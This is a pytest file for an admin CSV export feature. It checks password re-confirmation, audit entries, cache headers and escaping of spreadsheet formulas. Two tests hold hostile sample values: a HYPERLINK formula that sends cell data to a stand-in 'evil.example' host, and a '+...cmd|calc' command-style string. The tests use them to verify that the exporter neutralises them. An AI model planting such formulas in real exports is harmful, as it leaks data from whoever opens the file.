"""Admin CSV exports: a fresh password, an audit entry each, and cells that cannot run formulas."""

import csv
import io
import re

from sqlalchemy import select, update

from campus.audit import AuditEntry
from campus.extensions import db
from campus.learning.models import Course
from tests import support
from tests.admin import helpers

EXPORT = "/admin/members/export/csv/"


def _rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def _exports(app) -> list[AuditEntry]:
    with app.app_context():
        entries = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export"))
        return [(e.actor_id, e.object_type, e.summary) for e in entries]


def test_an_export_needs_a_fresh_password(app, client):
    helpers.sign_in_admin(app, client, fresh=False)
    response = client.get(EXPORT + "?search=example")
    assert response.status_code == 302
    assert response.headers["Location"] == (
        "/admin/confirm/?next=/admin/members/export/csv/?search%3Dexample"
    )
    assert _exports(app) == []


def test_under_a_path_prefix_the_password_confirmation_returns_to_the_export(app, client):
    helpers.sign_in_admin(app, client, fresh=False)
    response = client.get(EXPORT, base_url="http://localhost/campus")
    assert response.headers["Location"] == (
        "/campus/admin/confirm/?next=/campus/admin/members/export/csv/"
    )


def test_a_fresh_admin_exports_plain_values_and_the_export_is_logged(app, client):
    admin_id = helpers.sign_in_admin(app, client)
    with app.app_context():
        support.create_user(email="lee@example.com", full_name="Lee Park")
    response = client.get(EXPORT + "?search=lee")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    (row,) = _rows(response)
    assert row["Email"] == "lee@example.com" and row["Name"] == "Lee Park"
    ((actor, object_type, summary),) = _exports(app)
    assert (actor, object_type) == (admin_id, "User")
    assert summary == "exported 1 Members rows as csv (search 'lee')"


def test_exported_cells_cannot_run_as_spreadsheet_formulas(app, client):
    helpers.sign_in_admin(app, client)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    with app.app_context():
        support.create_user(email="mal@example.com", full_name=hostile)
        support.create_user(email="plus@example.com", full_name=" +1-555-cmd|calc")
    rows = {r["Email"]: r for r in _rows(client.get(EXPORT))}
    assert rows["mal@example.com"]["Name"] == "'" + hostile
    assert rows["plus@example.com"]["Name"] == "' +1-555-cmd|calc"
    assert rows["mal@example.com"]["Email"] == "mal@example.com"


def test_a_related_records_text_cannot_run_as_a_formula_either(app, client):
    helpers.make_catalog(app)
    hostile = '=HYPERLINK("http://evil.example/","Open")'
    with app.app_context():
        db.session.execute(update(Course).values(title=hostile))
        db.session.commit()
    helpers.sign_in_admin(app, client)
    # Each list names the course through its relation, not a text column of its own.
    for export in ("/admin/approvals/", "/admin/modules/", "/admin/lessons/", "/admin/quizzes/"):
        rows = _rows(client.get(export + "export/csv/"))
        assert rows and all(row["Course"] == "'" + hostile for row in rows), export


def test_a_password_confirmation_leads_back_to_the_export(app, client):
    helpers.sign_in_admin(app, client, fresh=False)
    target = client.get(EXPORT).headers["Location"]
    done = helpers.post(client, target, helpers.confirm_fields(client))
    assert done.status_code == 302 and done.headers["Location"] == EXPORT
    assert client.get(EXPORT).status_code == 200
    assert len(_exports(app)) == 1


def test_every_admin_list_exports_its_rows(app, client):
    helpers.make_catalog(app)
    helpers.sign_in_admin(app, client)
    rules = [r.rule for r in app.url_map.iter_rules() if r.endpoint.endswith(".export")]
    assert EXPORT.rstrip("/") + "/" in [r.replace("<export_type>", "csv") for r in rules]
    for rule in rules:
        response = client.get(rule.replace("<export_type>", "csv"))
        assert response.status_code == 200, rule
        assert response.headers["Cache-Control"] == "no-store"
        text = response.get_data(as_text=True)
        assert "<a href" not in text and "<span" not in text, rule
        # A related row is named as the list names it, never by its Python repr.
        assert re.search(r"<[A-Z]\w* [^>]*>", text) is None, (rule, text)
    assert len(_exports(app)) == len(rules)


def test_an_export_carries_what_the_list_shows_as_plain_text(app, client):
    from datetime import date

    from campus.learning.models import BoardApproval, Course

    helpers.make_catalog(app)
    with app.app_context():
        course = db.session.scalars(select(Course)).one()
        course.approvals.append(
            BoardApproval(board="BOC", approval_number="P-2", valid_until=date(2099, 1, 31))
        )
        db.session.commit()
    helpers.sign_in_admin(app, client)
    courses = _rows(client.get("/admin/courses/export/csv/"))
    assert [row["Approvals"] for row in courses] == [
        "NCBTMB 1234-56 no end date; BOC P-2 until 2099-01-31"
    ]
    [certificate] = _rows(client.get("/admin/certificates/export/csv/"))
    assert (certificate["Member"], certificate["Status"]) == ("member@example.com", "Issued")
    questions = _rows(client.get("/admin/questions/export/csv/"))
    assert questions[0]["Choices"] == "(right) A; B; C"
    assert questions[0]["Kind"] == "Choose one answer"


def test_a_list_whose_query_names_url_for_options_still_links_its_export(app, client):
    # The export link carries the list's query: one naming export_type collided with the
    # link's own (a 500), and _external made it an absolute link on the request's Host.
    helpers.sign_in_admin(app, client)
    page = client.get("/admin/members/?search=ana&export_type=json&_external=1&_anchor=x")
    assert page.status_code == 200
    [link] = re.findall(r'href="([^"]*/export/[^"]*)"', page.get_data(as_text=True))
    assert link == "/admin/members/export/csv/?search=ana"
